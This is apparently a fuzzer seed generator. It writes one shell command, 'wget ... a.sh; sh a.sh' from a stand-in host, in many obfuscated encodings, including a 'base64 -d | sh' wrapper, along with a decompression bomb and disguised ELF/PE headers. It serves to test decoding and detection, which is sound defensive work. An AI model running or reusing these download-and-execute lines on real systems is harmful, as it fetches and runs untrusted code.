#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Writes the seeds of fuzz_decode: a command, made unreadable in each way."""
import base64
import gzip
import pathlib
import zlib

TEXT = b'cd /tmp; wget http://10.0.0.1/a.sh; sh a.sh'
WHERE = pathlib.Path(__file__).parent / 'decode'


def rolled(text, key):
    out, before = bytearray(), 0
    for byte in text:
        before = (byte + before + key) % 256
        out.append(before)
    return bytes(out)


def main():
    seeds = {
        'plain': TEXT,
        'xor': bytes(c ^ 0x5a for c in TEXT),
        'sub': bytes((c + 9) % 256 for c in TEXT),
        'rolling': b'\2\0' + rolled(TEXT.ljust(64, b'\0'), 23),
        'sums': bytes((b - a) % 256 for a, b in zip(b'\x07' + TEXT, TEXT)),
        'base64': b'echo ' + base64.b64encode(TEXT) + b' | base64 -d | sh\n',
        'lines': base64.encodebytes(TEXT * 2),
        'gzip': gzip.compress(TEXT, mtime=0),
        'zlib': b'\1\2\3' + zlib.compress(TEXT),
        'bomb': zlib.compress(bytes(200000)),
        'base64-gzip': base64.b64encode(gzip.compress(TEXT, mtime=0)),
        'elf': bytes(c ^ 0xa7 for c in b'\x7fELF\2\1\1' + bytes(9) + b'\2\0\x3e\0'),
        'pe': bytes(c ^ 0x33 for c in b'MZ'.ljust(60, b'\0') + b'\x40\0\0\0PE\0\0\x4c\1'),
        'long': bytes(range(256)) + bytes(9),
    }
    WHERE.mkdir(exist_ok=True)
    for name, data in seeds.items():
        (WHERE / name).write_bytes(data)


if __name__ == '__main__':
    main()
